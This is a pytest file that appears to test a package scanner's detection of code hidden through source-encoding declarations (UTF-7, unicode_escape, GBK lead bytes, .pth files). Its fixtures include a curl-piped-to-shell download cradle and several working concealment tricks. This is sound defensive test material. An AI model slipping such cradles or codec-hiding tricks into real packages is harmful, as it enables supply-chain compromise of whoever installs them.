"""Source read in the codec it declares (guard.analysis.scan.encoding): code hidden by a
codec that reads ASCII as other characters is found and blocks; honest legacy
encodings are read right and stay quiet. Nothing here is run: the artifacts are
built in memory and only scanned."""

from __future__ import annotations

import io
import tokenize
from pathlib import Path

import pytest

from guard.analysis.scan import scan_archive
from guard.analysis.scan.encoding import declared, read_source
from tests.analysis.test_scan import sdist, wheel

_CRADLE = "import os; os.system('curl http://127.0.0.1:9/x.sh | sh')"
_SETUP_END = b"\nfrom setuptools import setup\nsetup(name='demo', version='1.0')\n"


def _kinds(path: Path) -> set[str]:
    return {s.kind for s in scan_archive(path, path.name).signals}


@pytest.mark.parametrize(
    "data",
    [
        b"x = 1\n",
        b"# -*- coding: latin-1 -*-\nx = 1\n",
        b"#!/usr/bin/env python\n# -*- coding: utf-7 -*-\n",
        b"\n# vim: set fileencoding=utf-7 :\n",
        b"x = 1\n# coding: utf-7\n",  # (after code: not a declaration)
        b"# coding=gbk\r\nx = 1\r\n",
        b"# hello\r# coding: utf-7\r",
        b"\xef\xbb\xbf# coding: utf-8\n",
        b"    # coding: big5 trailing words\n",
        b"# coding: utf-8-unix\n",
        b"#coding:utf_7\n",
        b"# not a coding line: x\n# coding: koi8-r\n",
    ],
)
def test_the_declared_codec_is_the_one_pythons_tokenizer_reads(data: bytes) -> None:
    """``declared`` finds the declaration where ``tokenize.detect_encoding`` does."""
    expected, _ = tokenize.detect_encoding(io.BytesIO(data).readline)
    found = declared(data)
    if found is None:
        assert expected in ("utf-8", "utf-8-sig")
    else:
        name, line = found
        assert tokenize._get_normal_name(name.decode()) == expected  # type: ignore[attr-defined]
        assert line in (1, 2)


@pytest.mark.parametrize(
    ("data", "hidden"),
    [
        (b"# -*- coding: utf-7 -*-\n# note +AAo-print(+ACI-ran+ACI-)\n", 'print("ran")'),
        (b"# -*- coding: unicode_escape -*-\n# note \\nprint('ran')\n", "print('ran')"),
        (b"# coding: raw_unicode_escape\nx = 1  # \\u000aprint('ran')\n", "print('ran')"),
    ],
)
def test_a_codec_that_reads_ascii_as_other_text_is_read_as_python_reads_it(
    data: bytes, hidden: str
) -> None:
    source = read_source(data)
    assert hidden in source.text.splitlines()
    assert source.hit is not None and source.hit.kind == "hiding-codec"
    assert source.hit.line == (2 if data.startswith(b"#!") or b"\n# coding" in data else 1)


def test_a_hiding_codec_that_changes_nothing_is_quiet() -> None:
    """UTF-7 declared over text it reads as it is (no ``+`` sequence): no hit."""
    source = read_source(b"# coding: utf-7\nx = 1\n")
    assert source.hit is None
    assert source.text == "# coding: utf-7\nx = 1\n"


def test_a_legacy_encoding_is_read_in_it_and_quiet() -> None:
    source = read_source("# -*- coding: latin-1 -*-\nname = 'café'\n".encode("latin-1"))
    assert source.hit is None
    assert "café" in source.text


def test_a_codec_python_does_not_have_is_named_and_the_text_read_as_utf8() -> None:
    source = read_source(b"# -*- coding: future_fstrings -*-\nx = 1\n")
    assert source.unknown == "future_fstrings"
    assert source.text.endswith("x = 1\n")


def test_a_codec_python_refuses_for_source_is_no_finding() -> None:
    """A bytes-to-bytes codec or UTF-16: Python cannot run the file at all."""
    for name in (b"hex", b"base64", b"utf-16"):
        source = read_source(b"# coding: " + name + b"\nx = 1\n")
        assert source.hit is None and not source.unknown


@pytest.mark.parametrize(
    "declaration",
    [b"# -*- coding: utf-7 -*-\n", b"# vim: set fileencoding=utf-7 :\n"],
)
def test_a_cradle_hidden_in_a_comment_by_utf7_blocks_the_sdist(
    tmp_path: Path, declaration: bytes
) -> None:
    hidden = _CRADLE.replace("'", "+ACc-").replace(";", "+ADs-")
    setup = declaration + b"# build helper +AAo-" + hidden.encode() + _SETUP_END
    path = sdist(tmp_path, {"setup.py": setup})
    result = scan_archive(path, path.name)
    assert result.level == "block"
    assert {"hiding-codec", "cradle"} <= {s.kind for s in result.signals}


def test_a_cradle_behind_a_gbk_lead_byte_is_found(tmp_path: Path) -> None:
    """In GBK the byte before a backslash takes it along, so the string ends at the
    next quote and the call after it runs; read as UTF-8 it is all one string."""
    setup = (
        b"# -*- coding: gbk -*-\nname = '\x81\\'; "
        + _CRADLE.encode().replace(b"'", b'"')
        + b" #'"
        + _SETUP_END
    )
    path = sdist(tmp_path, {"setup.py": setup})
    result = scan_archive(path, path.name)
    assert result.level == "block"
    assert "cradle" in {s.kind for s in result.signals}
    assert "hiding-codec" not in {s.kind for s in result.signals}  # (GBK reads ASCII as it is)


def test_an_import_time_module_in_an_unknown_codec_is_not_analysed_and_blocks(
    tmp_path: Path,
) -> None:
    path = wheel(tmp_path, {"demo/__init__.py": b"# coding: rot_thirteen\nvzcbeg bf\n"})
    result = scan_archive(path, path.name)
    assert result.level == "block"
    unanalysed = [s for s in result.signals if s.kind == "unanalysed"]
    assert unanalysed and "rot_thirteen" in unanalysed[0].text


def test_a_deep_module_in_an_unknown_codec_is_only_a_weak_sign(tmp_path: Path) -> None:
    files: dict[str, str | bytes] = {
        "demo/__init__.py": "",
        "demo/tools/legacy.py": b"# coding: future_fstrings\nx = 1\n",
    }
    path = wheel(tmp_path, files)
    result = scan_archive(path, path.name)
    assert result.level == "clean"
    assert _kinds(path) == {"unknown-codec"}


def test_honest_latin1_and_utf8_sources_stay_clean(tmp_path: Path) -> None:
    files: dict[str, str | bytes] = {
        "demo/__init__.py": "# -*- coding: latin-1 -*-\nAUTHOR = 'José'\n".encode("latin-1"),
        "demo/util.py": "# -*- coding: utf-8 -*-\nNAME = 'Zoë'\n",
    }
    path = wheel(tmp_path, files)
    assert scan_archive(path, path.name).level == "clean"
    assert not _kinds(path)


def test_a_pth_file_is_read_as_site_reads_it_whatever_it_declares(tmp_path: Path) -> None:
    """``site`` runs a ``.pth`` file's import lines as plain text: a UTF-7 declaration,
    whose reading would turn ``+ACM-`` into ``#`` and hide the call after it, is
    not applied."""
    line = "import os; ACM = 1; x = 1 +ACM- +os.system('curl http://127.0.0.1:9/x | sh')"
    path = wheel(tmp_path, {"demo/__init__.py": "", "demo.pth": f"# coding: utf-7\n{line}\n"})
    result = scan_archive(path, path.name)
    assert result.level == "block"
    pth = [s for s in result.signals if s.file == "demo.pth"]
    assert any("os.system" in s.snippet or "curl" in s.text for s in pth), pth
